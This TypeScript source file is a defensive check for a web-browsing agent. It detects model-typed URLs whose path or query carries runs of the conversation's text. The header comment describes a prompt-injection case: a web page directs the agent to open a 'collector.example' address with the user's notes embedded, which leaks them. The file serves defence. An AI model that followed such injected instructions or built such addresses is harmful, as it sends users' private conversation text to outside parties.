// A web page can tell the web agent to "open" an address it builds from the conversation
// (`https://collector.example/?d=<the user's notes>`): the navigation itself sends the text away.
// Once untrusted web text is in the turn, an address the model typed (not a numbered link or
// result) that carries a run of the conversation's text is asked about first. An address the
// user gave verbatim carries their text by design and does not ask.

/** Characters of conversation text in a row that count as carried (shorter runs are ordinary words). */
const RUN = 12;
/** Conversation text examined at most (its latest part): bounds the work per navigation. */
const MAX_SESSION_CHARS = 400_000;

const decode = (text: string): string => {
  try {
    return decodeURIComponent(text.replace(/\+/g, ' '));
  } catch {
    return text;
  }
};
/** Lowercase letters and digits with single spaces between words: how text looks once put in a URL and back. */
const normalize = (text: string): string =>
  text
    .toLowerCase()
    .replace(/[^\p{L}\p{N}]+/gu, ' ')
    .trim();

/**
 * The run of conversation text `url` carries in its path, query or fragment, or null. `session` is
 * the conversation's own text (the request, earlier messages); linear in both lengths.
 */
export function carriedSessionText(url: string, session: readonly string[]): string | null {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return null;
  }
  const joined = session.join('\n').slice(-MAX_SESSION_CHARS);
  if (joined.includes(url) || joined.includes(url.replace(/\/$/, ''))) return null; // the user gave this address
  const carried = normalize(decode(`${parsed.pathname} ${parsed.search} ${parsed.hash}`));
  if (carried.length < RUN) return null;
  const text = normalize(joined);
  const runs = new Set<string>();
  for (let i = 0; i + RUN <= text.length; i++) runs.add(text.slice(i, i + RUN));
  for (let i = 0; i + RUN <= carried.length; i++) {
    if (!runs.has(carried.slice(i, i + RUN))) continue;
    let end = i + RUN;
    while (end < carried.length && text.includes(carried.slice(i, end + 1)) && end - i < 80) end++;
    return carried.slice(i, end).trim();
  }
  return null;
}
